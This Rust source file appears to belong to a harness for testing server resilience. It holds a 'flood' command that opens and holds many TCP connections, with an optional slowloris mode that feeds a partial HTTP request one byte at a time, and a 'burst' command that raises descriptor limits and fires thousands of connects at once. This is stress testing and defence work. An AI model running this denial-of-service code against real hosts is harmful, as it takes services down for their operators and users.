//! A hostile task: open many connections and hold them, optionally
//! dribbling a request head one byte a second (slowloris).
use std::{
    io::{ErrorKind, Read, Write},
    net::TcpStream,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use serde_json::json;

use crate::{arg, num, resolve_target};

/// `flood --target HOST:PORT --connections N [--slowloris] [--hold-ms D]
/// [--hosts FILE]`: prints `{"opened", "emfile", "refused", "other_errors",
/// "closed_by_peer"}`; `closed_by_peer` counts connections the server ended
/// while they were held.
pub fn run(args: &[String]) -> Result<()> {
    let target = arg(args, "--target").context("--target")?;
    let addr = resolve_target(args, &target)?;
    let n = num(args, "--connections", 100)?.min(100_000);
    let hold = Duration::from_millis(num(args, "--hold-ms", 5000)?.min(120_000));
    let slowloris = args.iter().any(|a| a == "--slowloris");
    let (mut emfile, mut refused, mut other) = (0u64, 0u64, 0u64);
    let mut conns = Vec::new();
    for _ in 0..n {
        match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
            Ok(s) => conns.push(s),
            Err(e) if e.raw_os_error() == Some(libc::EMFILE) => {
                emfile += 1;
                // The task's own limit: more tries would only fail the same.
                break;
            }
            Err(e) if e.kind() == ErrorKind::ConnectionRefused => refused += 1,
            Err(_) => other += 1,
        }
    }
    let opened = conns.len() as u64;
    let mut open = vec![true; conns.len()];
    for s in &mut conns {
        s.set_nonblocking(true)?;
        if slowloris {
            let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n");
        }
    }
    let start = Instant::now();
    while start.elapsed() < hold {
        std::thread::sleep(Duration::from_millis(500));
        for (s, alive) in conns.iter_mut().zip(open.iter_mut()) {
            if !*alive {
                continue;
            }
            let mut b = [0u8; 512];
            match s.read(&mut b) {
                Ok(0) => *alive = false,
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                Err(_) => *alive = false,
            }
            if *alive && slowloris && s.write_all(b"X").is_err() {
                *alive = false;
            }
        }
    }
    let closed = open.iter().filter(|a| !**a).count() as u64;
    println!(
        "{}",
        json!({"opened": opened, "emfile": emfile, "refused": refused,
               "other_errors": other, "closed_by_peer": closed})
    );
    Ok(())
}

/// `burst --target HOST:PORT --connections N [--hosts FILE]`: N
/// non-blocking connects issued back to back, then polled until each is
/// established or failed (at most 30 s); prints `{"connected", "failed",
/// "ms"}`, `ms` from the first connect to the last established. The soft
/// descriptor limit is raised to the hard one first.
pub fn burst(args: &[String]) -> Result<()> {
    use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

    use nix::sys::resource::{Resource, getrlimit, setrlimit};
    let target = arg(args, "--target").context("--target")?;
    let addr = match resolve_target(args, &target)? {
        std::net::SocketAddr::V4(a) => a,
        a => anyhow::bail!("burst: IPv4 only, got {a}"),
    };
    let n = num(args, "--connections", 100)?.min(20_000) as usize;
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
    let sin = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: addr.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(*addr.ip()).to_be(),
        },
        sin_zero: [0; 8],
    };
    let start = Instant::now();
    let mut socks = Vec::with_capacity(n);
    let (mut failed, mut errors) = (0u64, Vec::new());
    for _ in 0..n {
        // SAFETY: socket(2) with constant arguments; the descriptor is
        // owned by the OwnedFd from here on.
        let fd = unsafe {
            libc::socket(
                libc::AF_INET,
                libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC,
                0,
            )
        };
        if fd < 0 {
            failed += 1;
            if errors.len() < 5 {
                errors.push(std::io::Error::last_os_error().to_string());
            }
            continue;
        }
        // SAFETY: a descriptor socket(2) just returned.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: connect(2) with a valid sockaddr_in and its size.
        let r = unsafe {
            libc::connect(
                fd.as_raw_fd(),
                (&sin as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        let e = std::io::Error::last_os_error();
        if r == 0 || e.raw_os_error() == Some(libc::EINPROGRESS) {
            socks.push(fd);
        } else {
            failed += 1;
            if errors.len() < 5 {
                errors.push(e.to_string());
            }
        }
    }
    // Poll until every pending connect resolved.
    let mut pending: Vec<libc::pollfd> = socks
        .iter()
        .map(|fd| libc::pollfd {
            fd: fd.as_raw_fd(),
            events: libc::POLLOUT,
            revents: 0,
        })
        .collect();
    let mut connected = 0u64;
    let deadline = start + Duration::from_secs(30);
    while !pending.is_empty() && Instant::now() < deadline {
        // SAFETY: poll(2) on a live array of pollfd and its length.
        let r = unsafe { libc::poll(pending.as_mut_ptr(), pending.len() as libc::nfds_t, 100) };
        if r < 0 {
            break;
        }
        pending.retain(|p| {
            if p.revents == 0 {
                return true;
            }
            let mut err: libc::c_int = 0;
            let mut len = std::mem::size_of::<libc::c_int>() as libc::socklen_t;
            // SAFETY: getsockopt(2) into a c_int of the size given.
            unsafe {
                libc::getsockopt(
                    p.fd,
                    libc::SOL_SOCKET,
                    libc::SO_ERROR,
                    (&mut err as *mut libc::c_int).cast(),
                    &mut len,
                )
            };
            if err == 0 && p.revents & (libc::POLLERR | libc::POLLHUP) == 0 {
                connected += 1;
            } else {
                failed += 1;
                if errors.len() < 5 {
                    errors.push(std::io::Error::from_raw_os_error(err).to_string());
                }
            }
            false
        });
    }
    let ms = start.elapsed().as_millis() as u64;
    failed += pending.len() as u64;
    drop(socks);
    println!(
        "{}",
        json!({"connected": connected, "failed": failed, "ms": ms, "errors": errors})
    );
    Ok(())
}
